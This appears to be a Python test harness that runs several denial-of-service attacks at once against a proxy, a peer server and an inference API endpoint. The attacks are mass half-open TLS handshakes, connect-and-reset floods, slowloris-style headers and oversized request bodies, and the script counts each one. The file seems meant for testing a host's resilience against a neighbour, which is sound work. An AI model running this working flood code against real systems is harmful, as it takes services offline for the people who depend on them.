"""A neighbour's attacks on a host, all at once. The host runs this file with ``python3`` and only
the standard library.

Arguments: addresses with ports of a proxy, a peer server and the proxy of a service that sleeps,
seconds, and a key; or only the address for all models, and seconds. At the end the program prints
counters as JSON, so that an attack without effect is visible.
"""

import contextlib
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
HALF = 10_000
RESET = struct.pack("ii", 1, 0)
COUNTS = {"half": 0, "ended": 0, "resets": 0, "slow": 0, "heads": 0, "huge": 0}


def half(at: tuple[str, int], until: float) -> None:
    """Hold ten thousand half handshakes; start another handshake for each handshake that ends."""
    waiting = selectors.DefaultSelector()
    held = 0
    while time.monotonic() < until:
        for _ in range(min(200, HALF - held)):
            fresh = socket.socket()
            fresh.setblocking(False)
            fresh.connect_ex(at)
            waiting.register(fresh, selectors.EVENT_WRITE | selectors.EVENT_READ)
            held += 1
            COUNTS["half"] += 1
        for key, events in waiting.select(0.05):
            item = key.fileobj
            assert isinstance(item, socket.socket)
            try:
                if events & selectors.EVENT_WRITE:
                    item.send(HELLO)
                    waiting.modify(item, selectors.EVENT_READ)
                elif not item.recv(100):
                    raise ConnectionError
            except OSError:
                waiting.unregister(item)
                item.close()
                held -= 1
                COUNTS["ended"] += 1


def reset(at: tuple[str, int], until: float) -> None:
    """Connect and reset, as fast as possible."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(at, 1) as item:
            item.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            COUNTS["resets"] += 1


def slow(at: tuple[str, int], until: float, key: str) -> None:
    """Send a request of 16 MiB for a sleeping service, without its last byte."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    head = f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
    head += f"Content-Length: {16 << 20}\r\n\r\n"
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError),
            socket.create_connection(at, 10) as plain,
            context.wrap_socket(plain) as item,
        ):
            item.sendall(head.encode() + b" " * ((16 << 20) - 1))
            COUNTS["slow"] += 1
            item.settimeout(max(0.1, until - time.monotonic()))
            item.recv(100)


def without_key(at: tuple[str, int], until: float, counter: str) -> None:
    """Send a head byte by byte, or a body of 1 GiB after a wrong key."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk-none\r\n"
    length = b"Content-Length: %d\r\n\r\n" % (1 << 30)
    piece, pause = (b"x", 0.5) if counter == "heads" else (b" " * (1 << 20), 0)
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError),
            socket.create_connection(at, 10) as plain,
            context.wrap_socket(plain) as item,
        ):
            item.settimeout(10)
            item.sendall(head + (b"X-Slow: " if counter == "heads" else length))
            COUNTS[counter] += 1
            while time.monotonic() < until:
                item.sendall(piece)
                time.sleep(pause)


def main() -> None:
    """Run all attacks at once, and print their counters."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (16_000, 16_000))
    count = 1 if len(sys.argv) == 3 else 3
    places = [
        (address, int(port))
        for address, _, port in (each.partition(":") for each in sys.argv[1 : 1 + count])
    ]
    until = time.monotonic() + float(sys.argv[1 + count])
    work = [threading.Thread(target=half, args=(places[0], until))]
    if count == 1:
        kinds = ["heads"] * 64 + ["huge"] * 16
        work += [threading.Thread(target=without_key, args=(places[0], until, k)) for k in kinds]
    else:
        _, peers, asleep = places
        work += [threading.Thread(target=reset, args=(peers, until)) for _ in range(4)]
        work += [
            threading.Thread(target=slow, args=(asleep, until, sys.argv[5])) for _ in range(64)
        ]
    for thread in work:
        thread.start()
    for thread in work:
        thread.join()
    print(json.dumps(COUNTS))


main()
